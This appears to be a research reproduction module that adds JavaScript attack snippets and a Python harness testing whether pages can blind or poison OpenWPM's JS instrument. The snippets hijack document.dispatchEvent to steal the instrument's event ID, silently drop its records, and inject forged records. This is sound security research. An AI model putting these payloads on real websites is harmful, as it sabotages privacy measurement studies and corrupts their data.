@@ -1,0 +1,156 @@
+"""Event-dispatcher attacks (paper Listing 2, Sec. 5.1.1 / 5.2).
+
+The vanilla JS instrument ships records through
+``document.dispatchEvent`` with a random event ID, looked up dynamically
+at call time. A page script can therefore:
+
+1. temporarily replace ``dispatchEvent``, trigger any instrumented API,
+   and read the random ID off the intercepted event;
+2. re-replace ``dispatchEvent`` with a filter that swallows exactly the
+   instrument's events (recording is now off, the page keeps working);
+3. forge arbitrary records by dispatching its own events under the
+   stolen ID through the saved original dispatcher.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import Any, List, Optional
+
+from repro.browser.profiles import BrowserProfile, openwpm_profile
+from repro.core.lab import visit_with_scripts
+
+#: Step I of Listing 2: steal the instrument's random event ID.
+GRAB_ID_SNIPPET = """
+var dispatch_fn = document.dispatchEvent;
+var grabbedId = null;
+document.dispatchEvent = function (event) {
+    grabbedId = event.type;
+    document.dispatchEvent = dispatch_fn;
+};
+// Perform an action to grab the ID
+navigator.userAgent;
+"""
+
+#: Steps I+II: swallow every instrument event from now on.
+BLOCK_RECORDING_ATTACK = GRAB_ID_SNIPPET + """
+var stolenId = grabbedId;
+document.dispatchEvent = function (event) {
+    if (event.type != stolenId) {
+        dispatch_fn.call(document, event); // Dispatch unrelated events
+    }
+};
+"""
+
+#: Steps I+III: inject a fabricated record under the stolen ID.
+FAKE_INJECTION_ATTACK = GRAB_ID_SNIPPET + """
+var stolenId = grabbedId;
+dispatch_fn.call(document, new CustomEvent(stolenId, {detail: {
+    symbol: "__FAKE_SYMBOL__",
+    operation: "call",
+    value: "__FAKE_VALUE__",
+    arguments: "__FAKE_ARGS__",
+    callStack: "",
+    scriptUrl: "__FAKE_SCRIPT_URL__"
+}}));
+"""
+
+#: Benign activity executed after the attack; recording of these calls
+#: is the success criterion.
+PROBE_ACTIVITY = """
+navigator.platform;
+screen.width;
+navigator.userAgent;
+"""
+
+
+@dataclass
+class AttackOutcome:
+    """Result of one attack run."""
+
+    attack: str
+    succeeded: bool
+    #: Symbols recorded by the instrument during the whole visit.
+    recorded_symbols: List[str] = field(default_factory=list)
+    #: Records (dicts) matching attacker-controlled content, if any.
+    forged_records: List[dict] = field(default_factory=list)
+    details: str = ""
+
+
+def normalized_symbols(instrument: Any) -> set:
+    """Recorded symbols, case-folded.
+
+    The vanilla instrument logs instance-style symbols
+    (``navigator.userAgent``); the hardened one logs interface-style
+    (``Navigator.userAgent``). Case-folding makes them comparable.
+    """
+    return {symbol.lower() for symbol in instrument.symbols_accessed()}
+
+
+def _make_extension(stealth: bool, storage: Any = None):
+    from repro.openwpm.config import BrowserParams
+    from repro.openwpm.extension import OpenWPMExtension
+
+    js_instrument = None
+    if stealth:
+        from repro.core.hardening.stealth import StealthJSInstrument
+
+        js_instrument = StealthJSInstrument(storage=storage)
+    return OpenWPMExtension(BrowserParams(stealth=stealth),
+                            storage=storage, js_instrument=js_instrument)
+
+
+def run_block_recording_attack(profile: Optional[BrowserProfile] = None,
+                               stealth: bool = False) -> AttackOutcome:
+    """Run Listing 2 (turn recording off) and check what got recorded.
+
+    Success means the probe activity executed *after* the attack left no
+    records — data recording was silently disabled.
+    """
+    extension = _make_extension(stealth)
+    profile = profile or openwpm_profile("ubuntu", "regular")
+    _, result = visit_with_scripts(
+        profile, [BLOCK_RECORDING_ATTACK, PROBE_ACTIVITY],
+        extension=extension)
+    symbols = extension.js_instrument.symbols_accessed()
+    probe_symbols = {"navigator.platform", "screen.width"}
+    missed = probe_symbols - normalized_symbols(extension.js_instrument)
+    return AttackOutcome(
+        attack="block-recording",
+        succeeded=missed == probe_symbols,
+        recorded_symbols=symbols,
+        details=f"probe symbols missing from record: {sorted(missed)}")
+
+
+def run_fake_injection_attack(profile: Optional[BrowserProfile] = None,
+                              stealth: bool = False,
+                              fake_symbol: str = "window.FakeAPI",
+                              fake_script_url: str =
+                              "https://innocent.example/clean.js"
+                              ) -> AttackOutcome:
+    """Run Listing 2 variant III (inject fake data).
+
+    Success means a record with attacker-chosen symbol and script URL
+    shows up in the instrument's stream. Note what stays out of the
+    attacker's reach: the backend assigns ``top_level_url``/``visit_id``
+    itself (RQ6), so forgeries are confined to the visited site.
+    """
+    extension = _make_extension(stealth)
+    profile = profile or openwpm_profile("ubuntu", "regular")
+    source = (FAKE_INJECTION_ATTACK
+              .replace("__FAKE_SYMBOL__", fake_symbol)
+              .replace("__FAKE_VALUE__", "forged-value")
+              .replace("__FAKE_ARGS__", "forged-args")
+              .replace("__FAKE_SCRIPT_URL__", fake_script_url))
+    _, result = visit_with_scripts(profile, [source], extension=extension)
+    forged = [
+        {"symbol": record.symbol, "script_url": record.script_url,
+         "value": record.value}
+        for record in extension.js_instrument.records
+        if record.symbol == fake_symbol]
+    return AttackOutcome(
+        attack="fake-injection",
+        succeeded=bool(forged),
+        recorded_symbols=extension.js_instrument.symbols_accessed(),
+        forged_records=forged,
+        details=f"{len(forged)} forged record(s) accepted")
